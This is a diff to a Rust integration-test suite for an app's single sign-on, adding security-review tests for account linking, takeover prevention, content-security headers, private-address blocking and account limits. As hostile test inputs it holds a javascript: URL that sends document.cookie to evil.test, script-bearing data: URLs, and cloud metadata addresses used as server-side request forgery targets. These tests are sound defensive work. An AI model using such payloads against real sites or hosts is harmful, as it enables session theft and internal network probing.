@@ -162,6 +162,25 @@ async fn sign_in_via(
     panic!("the sign-in never came back: {to}");
 }
 
+/// The holder of `email` opens the mailed "link your account" link in `c` and confirms;
+/// returns where Muster sends the browser then.
+async fn link_by_mail(app: &TestApp, c: &reqwest::Client, email: &str) -> String {
+    let mail = mail_with_subject(app, email, "sign-in to your Muster account").await;
+    let link = link_in(&mail);
+    let page = c.get(&link).send().await.unwrap();
+    assert_eq!(page.status(), 200);
+    let html = page.text().await.unwrap();
+    assert!(html.contains("Link and sign in"), "{html}");
+    let res = c
+        .post(app.url("/sso/link"))
+        .form(&[("token", token_of(&link))])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 303);
+    location(&res)
+}
+
 #[sqlx::test(migrations = false)]
 async fn a_new_person_at_a_verified_domain_signs_in_through_the_provider_and_joins(pool: PgPool) {
     let app = spawn_app(pool).await;
@@ -354,6 +373,13 @@ async fn an_unverified_domain_or_address_gives_no_membership_and_links_nothing(p
     verified_user(&app, "dee@acme.test").await;
     let c = new_client();
     let to = sign_in_via(&app, &c, "dee@acme.test", "dee@acme.test", |u| u).await;
+    assert_eq!(
+        to, "/signin?sso=confirm_link",
+        "her account is hers to link"
+    );
+    assert_eq!(signed_in_as(&app, &c).await, None);
+    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
+    let to = link_by_mail(&app, &c, "dee@acme.test").await;
     assert_eq!(to, "/o/eu-central-1/acme");
     assert_eq!(
         signed_in_as(&app, &c).await.as_deref(),
@@ -432,6 +458,11 @@ async fn require_sso_sends_members_to_the_provider_and_keeps_owners_a_password_w
     assert_eq!(to, "/sso/start?email=dana%40acme.test");
     assert_eq!(signed_in_as(&app, &laptop).await, None);
     let to = sign_in_via(&app, &laptop, "dana@acme.test", "dana@acme.test", |u| u).await;
+    assert_eq!(
+        to, "/signin?sso=confirm_link",
+        "her account is hers to link"
+    );
+    let to = link_by_mail(&app, &laptop, "dana@acme.test").await;
     assert_eq!(to, "/o/eu-central-1/acme");
     let overview = ok(app.call::<GetOrgOverview>(&laptop, &ACME).await).await;
     assert_eq!(overview["my_role"], "EDITOR", "the role an admin gave her");
@@ -446,4 +477,487 @@ async fn require_sso_sends_members_to_the_provider_and_keeps_owners_a_password_w
     // (An unchecked box sends nothing.)
     ok(app.call::<RequireSso>(&owner, &ACME).await).await;
     assert_eq!(app.call::<GetOrgOverview>(&dana, &ACME).await.status, 200);
+}
+
+// The third review: an organization's provider is a stranger to everyone else.
+
+/// Makes the test provider's discovery document say `overrides` from now on.
+async fn misbehave(provider: &Provider, overrides: serde_json::Value) {
+    let res = reqwest::Client::new()
+        .post(format!("{}/__test/discovery", provider.issuer))
+        .json(&overrides)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 204);
+}
+
+/// The port of the test provider (it also answers at `localhost`).
+fn port_of(provider: &Provider) -> &str {
+    provider.issuer.rsplit(':').next().unwrap()
+}
+
+#[sqlx::test(migrations = false)]
+async fn h1_a_sign_in_page_that_is_a_script_or_another_site_is_never_written_into_a_muster_page(
+    pool: PgPool,
+) {
+    let app = spawn_app(pool).await;
+    let provider = start_provider(&app);
+    let owner = acme_with_sso(&app, &provider).await;
+    // After saving, the organization's provider names a script as its sign-in page.
+    let hostile = [
+        "javascript:fetch('https://evil.test/?'+document.cookie)".to_owned(),
+        "data:text/html,<script>alert(1)</script>".to_owned(),
+        "https://evil.test/authorize".to_owned(),
+        format!("http://localhost:{}/auth", port_of(&provider)),
+    ];
+    for page in &hostile {
+        misbehave(
+            &provider,
+            serde_json::json!({ "authorization_endpoint": page }),
+        )
+        .await;
+        let res = new_client()
+            .get(app.url("/sso/start?email=victim%40acme.test"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), 303, "{page}");
+        assert_eq!(location(&res), "/signin?sso=provider", "{page}");
+        let body = res.text().await.unwrap();
+        assert!(!body.contains("evil") && !body.contains("script"), "{body}");
+        // "Test connection" names it, on the field that fixes it.
+        let tested = save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "test").await;
+        assert_eq!(
+            field_keys(&tested.result.unwrap_err()),
+            [(
+                "sign_in_host".to_owned(),
+                "errors.sso_sign_in_page".to_owned()
+            )],
+            "{page}"
+        );
+    }
+    // An OWNER may confirm another host for the sign-in page (here the provider's own,
+    // by another name): then, and only then, browsers are sent there.
+    let mut form = ACME.to_vec();
+    form.extend([
+        ("issuer", provider.issuer.as_str()),
+        ("client_id", CLIENT_ID),
+        ("client_secret", CLIENT_SECRET),
+        ("sign_in_host", "localhost"),
+    ]);
+    ok(app.call::<SaveSso>(&owner, &form).await).await;
+    let res = new_client()
+        .get(app.url("/sso/start?email=ann%40acme.test"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 200);
+    let body = res.text().await.unwrap();
+    assert!(
+        body.contains(&format!(
+            "url=http://localhost:{}/auth?",
+            port_of(&provider)
+        )),
+        "{body}"
+    );
+    // Still no script, whatever host is confirmed.
+    misbehave(
+        &provider,
+        serde_json::json!({ "authorization_endpoint": "javascript://localhost/%0aalert(1)" }),
+    )
+    .await;
+    let res = new_client()
+        .get(app.url("/sso/start?email=ann%40acme.test"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(location(&res), "/signin?sso=provider");
+}
+
+#[sqlx::test(migrations = false)]
+async fn h1_every_answer_that_leptos_does_not_render_forbids_scripts(pool: PgPool) {
+    let app = spawn_app_with_mailbox_page(pool).await;
+    let provider = start_provider(&app);
+    acme_with_sso(&app, &provider).await;
+    let c = new_client();
+    let routes = [
+        "/sso/start?email=ann%40acme.test",
+        "/sso/start?email=bo%40elsewhere.test",
+        "/sso/callback?state=x&code=y",
+        "/sso/link?token=nothing",
+        "/healthz",
+        "/readyz",
+        "/metrics",
+        "/events",
+        "/texts/en.json",
+        "/api/v1/openapi.json",
+        "/api/v1/members",
+        "/api/v1/nothing",
+        "/scim/v2/Users",
+        "/scim/v2/ServiceProviderConfig",
+        "/api/no_such_function",
+        "/dev/mailbox",
+        "/favicon.svg",
+        "/no-such-file.js",
+    ];
+    for route in routes {
+        let res = c.get(app.url(route)).send().await.unwrap();
+        let csp = res
+            .headers()
+            .get("content-security-policy")
+            .map(|v| v.to_str().unwrap().to_owned())
+            .unwrap_or_default();
+        // Either no script at all, or a page Leptos rendered (a missing file's "not
+        // found" page is one), whose scripts must carry its nonce.
+        let no_script = csp.contains("default-src 'none'") && !csp.contains("script-src");
+        let leptos_page = csp.contains("script-src 'self' 'nonce-")
+            && !csp
+                .split(';')
+                .any(|d| d.trim().starts_with("script-src") && d.contains("unsafe-inline"));
+        assert!(
+            no_script || leptos_page,
+            "{route} ({}): {csp:?}",
+            res.status()
+        );
+    }
+    // A Leptos page, by contrast, allows only its own scripts (by nonce).
+    let page = c.get(app.url("/signin")).send().await.unwrap();
+    assert!(!csp_nonce(page.headers()).is_empty());
+}
+
+#[sqlx::test(migrations = false)]
+async fn m1_a_provider_cannot_take_over_an_account_that_has_the_address(pool: PgPool) {
+    let app = spawn_app(pool).await;
+    let provider = start_provider(&app);
+    // The victim is OWNER of an organization of their own, with an address at the
+    // domain the attacker's organization verified.
+    let victim = org(&app, "Victim Org", "victim@acme.test", &[]).await;
+    acme_with_sso(&app, &provider).await;
+    let attacker = new_client();
+    let to = sign_in_via(
+        &app,
+        &attacker,
+        "victim@acme.test",
+        "victim@acme.test",
+        |u| u,
+    )
+    .await;
+    assert_eq!(to, "/signin?sso=confirm_link");
+    assert_eq!(signed_in_as(&app, &attacker).await, None);
+    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
+    assert_eq!(
+        app.count("SELECT count(*) FROM people WHERE email = 'victim@acme.test'")
+            .await,
+        1,
+        "no membership in Acme either"
+    );
+    // The mail goes to the account's holder; its link works only in the browser that
+    // signed in at the provider, so the holder opening it elsewhere links nothing.
+    let mail = mail_with_subject(&app, "victim@acme.test", "sign-in to your Muster account").await;
+    assert!(mail.text.contains("Acme"), "{}", mail.text);
+    let token = token_of(&link_in(&mail));
+    let page = victim
+        .get(app.url(&format!("/sso/link?token={token}")))
+        .send()
+        .await
+        .unwrap();
+    assert!(
+        page.text().await.unwrap().contains("does not work"),
+        "another browser is told the link does not work there"
+    );
+    let res = victim
+        .post(app.url("/sso/link"))
+        .form(&[("token", token.as_str())])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(location(&res), "/signin?sso=state");
+    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
+    assert_eq!(
+        signed_in_as(&app, &victim).await.as_deref(),
+        Some("victim@acme.test"),
+        "the holder's own session is untouched"
+    );
+    // A token that was never mailed does nothing in the attacker's browser either.
+    let res = attacker
+        .post(app.url("/sso/link"))
+        .form(&[("token", "guessed")])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(location(&res), "/signin?sso=state");
+    assert_eq!(signed_in_as(&app, &attacker).await, None);
+}
+
+#[sqlx::test(migrations = false)]
+async fn m1_the_holder_links_their_account_in_the_browser_that_signed_in_and_is_told(pool: PgPool) {
+    let app = spawn_app(pool).await;
+    let provider = start_provider(&app);
+    acme_with_sso(&app, &provider).await;
+    verified_user(&app, "dee@acme.test").await;
+    let c = new_client();
+    let to = sign_in_via(&app, &c, "dee@acme.test", "dee@acme.test", |u| u).await;
+    assert_eq!(to, "/signin?sso=confirm_link");
+    let mail = mail_with_subject(&app, "dee@acme.test", "sign-in to your Muster account").await;
+    let token = token_of(&link_in(&mail));
+    assert_eq!(
+        link_by_mail(&app, &c, "dee@acme.test").await,
+        "/o/eu-central-1/acme"
+    );
+    assert_eq!(
+        signed_in_as(&app, &c).await.as_deref(),
+        Some("dee@acme.test")
+    );
+    mail_with_subject(&app, "dee@acme.test", "now opens your Muster account").await;
+    // Used once.
+    let res = c
+        .post(app.url("/sso/link"))
+        .form(&[("token", token.as_str())])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(location(&res), "/signin?sso=state");
+    // From now on the provider signs her in directly.
+    let again = new_client();
+    let to = sign_in_via(&app, &again, "dee@acme.test", "dee@acme.test", |u| u).await;
+    assert_eq!(to, "/o/eu-central-1/acme");
+}
+
+#[sqlx::test(migrations = false)]
+async fn m2_links_end_with_their_issuer_and_hold_only_for_addresses_on_verified_domains(
+    pool: PgPool,
+) {
+    let app = spawn_app(pool).await;
+    let first = start_provider(&app);
+    let second = start_provider(&app);
+    let owner = acme_with_sso(&app, &first).await;
+    let c = new_client();
+    sign_in_via(&app, &c, "ann@acme.test", "ann@acme.test", |u| u).await;
+    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 1);
+    // Another issuer: it speaks for nobody the first one linked.
+    ok(save_sso(&app, &owner, &second.issuer, CLIENT_SECRET, "save").await).await;
+    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
+    let c = new_client();
+    let to = sign_in_via(&app, &c, "ann@acme.test", "ann@acme.test", |u| u).await;
+    assert_eq!(
+        to, "/signin?sso=confirm_link",
+        "the new issuer's subject is not the old one's"
+    );
+    // Turned off, no link is left.
+    link_by_mail(&app, &c, "ann@acme.test").await;
+    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 1);
+    ok(app.call::<app::sso::api::RemoveSso>(&owner, &ACME).await).await;
+    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
+    // A linked account whose own address left the verified domains is not signed in,
+    // even if the provider still says the old address.
+    ok(save_sso(&app, &owner, &second.issuer, CLIENT_SECRET, "save").await).await;
+    let c = new_client();
+    sign_in_via(&app, &c, "bea@acme.test", "bea@acme.test", |u| u).await;
+    sqlx::query("UPDATE users SET email = 'bea@personal.test' WHERE email = 'bea@acme.test'")
+        .execute(&app.pool)
+        .await
+        .unwrap();
+    let c = new_client();
+    let to = sign_in_via(&app, &c, "bea@acme.test", "bea@acme.test", |u| u).await;
+    assert_eq!(to, "/signin?sso=domain");
+    assert_eq!(signed_in_as(&app, &c).await, None);
+}
+
+#[sqlx::test(migrations = false)]
+async fn m3_an_unverified_address_makes_no_account_and_claims_no_invitation(pool: PgPool) {
+    let app = spawn_app(pool).await;
+    let provider = start_provider(&app);
+    let owner = org(
+        &app,
+        "Acme",
+        "it@acme.test",
+        &[("unverified.adm@acme.test", "ADMIN")],
+    )
+    .await;
+    verify_domain(&app, "acme.test").await;
+    ok(save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "save").await).await;
+    let c = new_client();
+    let who = "unverified.adm@acme.test";
+    let to = sign_in_via(&app, &c, who, who, |u| u).await;
+    assert_eq!(to, "/signin?sso=unverified");
+    assert_eq!(signed_in_as(&app, &c).await, None);
+    assert_eq!(
+        app.count("SELECT count(*) FROM users WHERE email = 'unverified.adm@acme.test'")
+            .await,
+        0,
+        "no account"
+    );
+    assert_eq!(
+        app.count(
+            "SELECT count(*) FROM people WHERE email = 'unverified.adm@acme.test' AND user_id IS NULL"
+        )
+        .await,
+        1,
+        "the invitation (and its role) is still unclaimed"
+    );
+    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
+}
+
+#[sqlx::test(migrations = false)]
+async fn m4_api_keys_of_members_who_must_use_the_provider_stop_while_it_is_required(pool: PgPool) {
+    let app = spawn_app(pool).await;
+    let provider = start_provider(&app);
+    let owner = org(&app, "Acme", "it@acme.test", &[("dana@acme.test", "ADMIN")]).await;
+    verify_domain(&app, "acme.test").await;
+    ok(save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "save").await).await;
+    let dana = accept(&app, "dana@acme.test").await;
+    let danas = api_key(&app, &dana).await;
+    let owners = api_key(&app, &owner).await;
+    assert_eq!(members_status(&app, &danas).await, 200);
+    let mut form = ACME.to_vec();
+    form.push(("required", "on"));
+    ok(app.call::<RequireSso>(&owner, &form).await).await;
+    assert_eq!(
+        members_status(&app, &danas).await,
+        401,
+        "Dana must use the provider"
+    );
+    assert_eq!(
+        members_status(&app, &owners).await,
+        200,
+        "OWNERs are exempt"
+    );
+    ok(app.call::<RequireSso>(&owner, &ACME).await).await;
+    assert_eq!(
+        members_status(&app, &danas).await,
+        200,
+        "works again when not required"
+    );
+}
+
+/// A REST API key for Acme, made by the person signed in on `c`.
+async fn api_key(app: &TestApp, c: &reqwest::Client) -> String {
+    let mut form = ACME.to_vec();
+    form.extend([("name", "robot"), ("role", "VIEWER")]);
+    ok(app.call::<app::api_keys::api::CreateApiKey>(c, &form).await).await["key"]
+        .as_str()
+        .unwrap()
+        .to_owned()
+}
+
+async fn members_status(app: &TestApp, key: &str) -> u16 {
+    rest(
+        app,
+        Some(key),
+        reqwest::Method::GET,
+        "/api/v1/members",
+        None,
+    )
+    .await
+    .0
+}
+
+#[sqlx::test(migrations = false)]
+async fn m5_the_server_asks_only_the_internet_and_says_so_in_fixed_words(pool: PgPool) {
+    let app = spawn_app(pool).await;
+    let provider = start_provider(&app);
+    let owner = acme_with_sso(&app, &provider).await;
+    // An issuer at a metadata or private address is never asked.
+    for issuer in [
+        "http://169.254.169.254",
+        "http://10.0.0.1",
+        "http://[fd00:ec2::254]",
+    ] {
+        let tested = save_sso(&app, &owner, issuer, CLIENT_SECRET, "test").await;
+        assert_eq!(
+            field_keys(&tested.result.unwrap_err()),
+            [(
+                "issuer".to_owned(),
+                "errors.sso_not_the_internet".to_owned()
+            )],
+            "{issuer}"
+        );
+    }
+    // Nor are the addresses a discovery document names (its keys here).
+    misbehave(
+        &provider,
+        serde_json::json!({ "jwks_uri": "http://169.254.169.254/latest/meta-data/jwks" }),
+    )
+    .await;
+    let tested = save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "test").await;
+    let err = tested.result.unwrap_err();
+    assert_eq!(
+        field_keys(&err),
+        [(
+            "issuer".to_owned(),
+            "errors.sso_not_the_internet".to_owned()
+        )]
+    );
+    // The OWNER reads a fixed message, never the error chain.
+    let text = format!("{err:?}");
+    assert!(
+        !text.contains("error sending request") && !text.contains("169.254"),
+        "{text}"
+    );
+    // The saved secret goes only to the saved issuer with the saved client ID.
+    misbehave(&provider, serde_json::json!({})).await;
+    let mut form = ACME.to_vec();
+    form.extend([
+        ("issuer", "http://127.0.0.1:9"),
+        ("client_id", CLIENT_ID),
+        ("client_secret", ""),
+        ("intent", "test"),
+    ]);
+    let tested = app.call::<SaveSso>(&owner, &form).await;
+    assert_eq!(
+        field_keys(&tested.result.unwrap_err()),
+        [(
+            "client_secret".to_owned(),
+            "errors.sso_client_secret_required".to_owned()
+        )]
+    );
+    // Every "Test connection" is audited.
+    let tests = app
+        .count(
+            "SELECT count(*) FROM audit_events WHERE action = 'sso_changed' AND detail LIKE 'test %'",
+        )
+        .await;
+    assert_eq!(tests, 4, "three addresses and the private keys");
+}
+
+#[sqlx::test(migrations = false)]
+async fn m6_just_in_time_accounts_hash_nothing_and_are_limited_per_organization(pool: PgPool) {
+    let options = Options {
+        extra_args: vec!["--sso-new-accounts-per-hour".into(), "2".into()],
+        ..Default::default()
+    };
+    let app = spawn_app_with(pool, options).await;
+    let provider = start_provider(&app);
+    acme_with_sso(&app, &provider).await;
+    for who in ["ann@acme.test", "bo@acme.test"] {
+        let c = new_client();
+        assert_eq!(
+            sign_in_via(&app, &c, who, who, |u| u).await,
+            "/o/eu-central-1/acme"
+        );
+    }
+    let c = new_client();
+    let to = sign_in_via(&app, &c, "cy@acme.test", "cy@acme.test", |u| u).await;
+    assert_eq!(to, "/signin?sso=too_many");
+    assert_eq!(
+        app.count("SELECT count(*) FROM users WHERE email = 'cy@acme.test'")
+            .await,
+        0
+    );
+    // No password hash at all, and no password opens the account.
+    assert_eq!(
+        app.count("SELECT count(*) FROM users WHERE password_hash = '!no-password'")
+            .await,
+        2
+    );
+    let c = new_client();
+    let res = app
+        .call::<app::auth::api::SignIn>(
+            &c,
+            &[("email", "ann@acme.test"), ("password", "!no-password")],
+        )
+        .await;
+    assert!(res.result.is_err());
+    assert_eq!(signed_in_as(&app, &c).await, None);
 }
